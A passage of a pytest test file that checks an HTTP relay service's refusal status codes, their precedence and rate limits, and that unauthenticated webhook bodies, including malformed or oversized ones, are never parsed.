    if is_hook:
        headers["Authorization"] = "Bearer wrong"
    if 411 in faults:
        body = b""
    else:
        headers["Content-Length"] = str(CAP + 1 if 413 in faults else len(body))
    method = "PUT" if 405 in faults else "POST"
    with Raw(relay.port, source_address=HASTY if 429 in faults else None) as raw:
        return raw.send(head(method, path, headers) + (b"" if 413 in faults else body)).read()


@pytest.fixture(scope="module")
def exhausted(relay: RelayProcess) -> None:
    """One client has used up the limits of all sources that have one."""
    assert relay.form({"email": person()}, "one", source_address=HASTY).status == 202
    assert relay.hook({"email": person()}, "hook-limited", source_address=HASTY).status == 202
    assert relay.form({"email": person()}, "one", source_address=HASTY).status == 429


@pytest.mark.usefixtures("exhausted")
@pytest.mark.parametrize("fault", ORDER)
def test_each_refusal_is_given_for_its_fault(relay: RelayProcess, fault: int) -> None:
    answer = deserving(relay, (fault,))
    assert answer.status == fault
    if fault in (404, 405, 503, 403, 411, 413, 415):
        assert answer.header("Connection") == "close"


@pytest.mark.usefixtures("exhausted")
@pytest.mark.parametrize(("first", "second"), PAIRS)
def test_of_two_refusals_the_earlier_one_is_given(relay: RelayProcess, first: int, second: int) -> None:
    assert deserving(relay, (first, second)).status == first


WRONG = {"Authorization": "Bearer wrong"}


@pytest.mark.parametrize(
    ("content_type", "body", "expected"),
    [
        (FORM_TYPE, b"x=1&" * 300, 401),
        (FORM_TYPE, b"x=" + b"1" * 17_000, 401),
        ("application/json", b'{"x": [' + b"0," * 6000 + b"0]}", 401),
        ("application/json; charset=utf-16", b"{}", 415),
        (
            "multipart/form-data; boundary=b",
            b'--b\r\nContent-Disposition: form-data; name="a"; filename="a"\r\n\r\nx\r\n--b--\r\n',
            401,
        ),
        ("application/json", b"{", 401),
        ("application/json", b"[]", 401),
        (FORM_TYPE, b"x=%", 401),
        ("multipart/form-data; boundary=b", b"--b", 401),
        (FORM_TYPE, b"", 401),
    ],
)
def test_without_proof_nothing_of_a_body_is_parsed(
    relay: RelayProcess, content_type: str, body: bytes, expected: int
) -> None:
    answer = request(relay.port, "POST", "/submit/hook", body, WRONG | {"Content-Type": content_type})
    assert answer.status == expected


@pytest.mark.parametrize("proof", ["right", "wrong"])
def test_a_body_cut_short_without_proof_is_unproven(relay: RelayProcess, proof: str) -> None:
    token = relay.hook_secret if proof == "right" else "wrong"
    headers = {
        "Content-Type": "application/json",
        "Content-Length": "50",
        "Authorization": f"Bearer {token}",
    }
    with Raw(relay.port) as raw:
        raw.send(head("POST", "/submit/hook", headers) + b'{"email": "ada@example.com"}').half_close()
        try:
            assert raw.read().status == (400 if proof == "right" else 401)
        except NoAnswer as why:
            assert "deadline" not in str(why)
